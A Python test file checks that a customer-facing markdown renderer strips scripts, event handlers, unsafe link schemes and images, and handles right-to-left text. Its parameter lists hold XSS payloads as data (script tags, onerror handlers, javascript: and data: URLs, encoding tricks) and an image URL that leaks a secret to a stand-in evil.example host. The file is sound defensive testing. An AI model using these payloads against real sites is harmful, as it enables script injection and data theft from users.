"""What an answer may bring into the page: text, structure and plain links; never code, never a request."""

from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pages.customer_markdown import render_markdown

ALLOWED_TAGS = {
    "p", "br", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "hr", "div",
    "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td", "bdi",
}  # fmt: skip
ALLOWED_ATTRIBUTES = {"class", "href", "title", "rel", "target", "start", "tabindex", "dir"}


class Seen(HTMLParser):
    """Reads HTML as a browser would and keeps what it found."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[str] = set()
        self.links: list[str] = []
        self.directions: set[str | None] = set()
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {name for name, _ in attrs}
        self.links += [value or "" for name, value in attrs if name == "href"]
        self.directions |= {value for name, value in attrs if name == "dir"}


def assert_harmless(text: str) -> Seen:
    seen = Seen(render_markdown(text))
    assert seen.tags <= ALLOWED_TAGS
    assert seen.attributes <= ALLOWED_ATTRIBUTES
    assert seen.directions <= {"ltr", "rtl"}
    assert all(link.lower().startswith(("http://", "https://", "mailto:")) for link in seen.links)
    return seen


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "text <svg/onload=alert(1)> text",
        "<details open ontoggle=alert(1)>",
        "[go](javascript:alert(1))",
        "[go](JaVaScRiPt:alert(1))",
        "[go](javascript&#58;alert(1))",
        "[go](&#x6a;avascript:alert(1))",
        "[go](\x01javascript:alert(1))",
        "[go](data:text/html;base64,PHNjcmlwdD4=)",
        "[go](vbscript:msgbox(1))",
        "[go](//evil.example/x)",
        "[go](/chat/export?conversation_id=1)",
        "[go][1]\n\n[1]: javascript:alert(1)",
        "<javascript:alert(1)>",
        '[go](https://a.example "x\\" onmouseover=\\"alert(1)")',
        "```html\n<script>alert(1)</script>\n```",
        '```"onload="alert(1)\ncode\n```',
    ],
)
def test_attacks_become_text(text: str) -> None:
    assert_harmless(text)


@pytest.mark.parametrize(
    "text",
    ["![chart](https://evil.example/a.png?q=secret)", "![chart][1]\n\n[1]: https://evil.example/a.png",
     "[![chart](https://evil.example/a.png)](https://fine.example)"],
)  # fmt: skip
def test_an_image_leaves_only_its_words(text: str) -> None:
    html = render_markdown(text)
    assert "img" not in Seen(html).tags
    assert "evil.example" not in html
    assert "chart" in html


def test_an_image_cannot_smuggle_markup_in_its_words() -> None:
    assert "<b" not in render_markdown('![<b onclick="x">](https://evil.example/a.png)')


def test_links_open_apart_and_tell_nothing() -> None:
    html = render_markdown("[order](https://shop.example/o?a=1&b=2)")
    assert 'href="https://shop.example/o?a=1&amp;b=2"' in html
    assert 'target="_blank" rel="noopener noreferrer nofollow"' in html


def test_tables_scroll_and_carry_no_style_attribute() -> None:
    html = render_markdown("| a | b |\n|---|--:|\n| 1 | 2 |")
    assert '<div class="table" tabindex="0"><table>' in html
    assert '<td class="right">2</td>' in html
    assert "style=" not in html


def test_headings_stay_below_the_page_s_own() -> None:
    assert Seen(render_markdown("# one\n\n###### six")).tags == {"h3", "h6"}


def test_single_line_breaks_are_kept() -> None:
    assert render_markdown("一\n二") == "<p>一<br />\n二</p>\n"


_PIECES = st.sampled_from(
    ["<script>", "</script>", "<img src=x onerror=1>", "javascript:", "![", "](", ")", "[", "]", "http://a.b",
     "\n", "\n\n", "`", "```", "|", "|---|", "# ", "- ", "1. ", "> ", "<", ">", '"', "'", "&lt;", "&#106;", "*",
     "**", "_", "~~", "\\", "\t", "\0", "\u200b", "\u202e", "中文", "اتصل", "+966 50 123 4567", ":", "//", "mailto:", "[1]: ", " "]
)  # fmt: skip


@settings(max_examples=400, deadline=None)
@given(st.lists(st.one_of(_PIECES, st.text(max_size=8)), max_size=40).map("".join))
def test_no_text_whatever_brings_in_code(text: str) -> None:
    assert_harmless(text)


@pytest.mark.parametrize("piece", ["[", "*a ", "> ", "`", "![", "<", "[a](", "|", "- ", "_*"])
def test_hostile_length_takes_no_hostile_time(piece: str) -> None:
    """Rendering repeats every 60 ms while an answer grows; nothing in 8,000 characters may take long."""
    import time

    began = time.process_time()
    render_markdown(piece * (8000 // len(piece)))
    assert time.process_time() - began < 1.0


def test_arabic_and_hebrew_are_read_from_the_right_and_names_in_them_change_nothing() -> None:
    html = render_markdown(
        "iPhone 15 متوفر الآن\n\n- اقرأ الدليل\n- انتظر\n\n> ציטוט\n\n### عنوان\n\n| أ | ب |\n|---|---|\n| ١ | ٢ |\n\n"
        "Please wait: انتظر is what it says."
    )
    for begun in ('<p dir="rtl">iPhone', '<ul dir="rtl">', '<blockquote dir="rtl">', '<h5 dir="rtl">'):
        assert begun in html
    assert '<div class="table" tabindex="0" dir="rtl">' in html
    assert "<p>Please wait" in html
    assert "<p>Wo ist es?</p>" in render_markdown("Wo ist es?")


def test_a_telephone_among_arabic_words_keeps_the_order_of_its_groups() -> None:
    assert '<bdi dir="ltr">+966 50 123 4567</bdi>' in render_markdown("اتصل على +966 50 123 4567 الآن")
    assert '<bdi dir="ltr">2026-11-27 09:00</bdi>' in render_markdown(
        "موعد العودة: 2026-11-27 09:00 (Asia/Shanghai)"
    )
    assert "bdi" not in render_markdown("Call +966 50 123 4567")
